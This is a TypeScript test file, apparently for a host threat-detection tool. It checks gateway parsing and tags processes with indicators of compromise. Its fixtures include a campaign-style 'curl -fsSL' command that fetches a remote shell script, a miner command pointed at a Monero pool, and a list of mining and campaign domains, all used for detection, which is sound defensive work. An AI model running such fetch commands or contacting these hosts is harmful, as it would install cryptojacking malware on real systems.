import assert from 'node:assert/strict'
import { test } from 'node:test'
import { memoryTarget } from '../target/index.ts'
import { factWith } from './fact-with.ts'
import { gatewaysOf } from './gateways.ts'
import { markKnown } from './known-facts.ts'
import { ownIndicators, sharedPlaces } from './own-indicators.ts'

const now = '2026-11-22T00:00:00Z'
const route = `Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT
eth0\t00000000\t017100CB\t0003\t0\t0\t0\t00000000\t0\t0\t0
eth0\t007100CB\t00000000\t0001\t0\t0\t0\t00FFFFFF\t0\t0\t0
`
const six = `00000000000000000000000000000000 00 00000000000000000000000000000000 00 20010db8000000000000000000000001 00000400 00000001 00000000 00000003 eth0
20010db8000000000000000000000000 40 00000000000000000000000000000000 00 00000000000000000000000000000000 00000100 00000001 00000000 00000001 eth0
`

test('gateways of a running host', () => {
  const files = { '/proc/net/route': route, '/proc/net/ipv6_route': six }
  assert.deepEqual(gatewaysOf(memoryTarget({ files, live: true, now })), [
    '203.0.113.1',
    '2001:0db8:0000:0000:0000:0000:0000:0001',
  ])
  assert.deepEqual(gatewaysOf(memoryTarget({ files, live: false, now })), [])
  assert.deepEqual(gatewaysOf(memoryTarget({ files: {}, live: true, now })), [])
})

test('a pool is a hint, the domain of a campaign more; a state folder without lists is none', () => {
  const pool = factWith({ kind: 'process', pid: 7, command: '/usr/bin/x -o gulf.moneroocean.stream:10128' })
  const campaign = factWith({ kind: 'process', pid: 8, command: 'curl -fsSL http://oracle.zzhreceive.top/b2f628/b.sh' })
  const target = memoryTarget({ files: {}, live: true, now })
  markKnown([pool, campaign], target, { state: '/does/not/exist', now })
  const said = [pool, campaign].map(fact =>
    'indicators' in fact ? fact.indicators?.map(one => [one.value, one.source, one.confidence]) : undefined,
  )
  assert.deepEqual(said, [[['gulf.moneroocean.stream', 'Davylamp', 30]], [['oracle.zzhreceive.top', 'Davylamp', 70]]])
  assert.deepEqual(target.gaps, [])
})

test('what comes with the program is honest: each with a date, a confidence and words, pools below 50, campaigns with an end', () => {
  const store = ownIndicators(now)
  for (const [value, most] of [
    ['pool.supportxmr.com', 49],
    ['pw.pwndns.pw', 79],
    ['donate.v2.xmrig.com', 49],
  ] as const) {
    const [found] = store.find('domain', value)
    assert.ok(found?.date !== undefined && found.about !== undefined && (found.confidence ?? 100) <= most, value)
    assert.equal(found.expires === undefined, most === 49, value)
  }
  assert.ok(sharedPlaces().holdsAddress('104.16.1.1') && sharedPlaces().holdsDomain('raw.githubusercontent.com'))
  assert.ok(!sharedPlaces().holdsAddress('198.51.100.7') && !sharedPlaces().holdsDomain('x.github.io'))
})
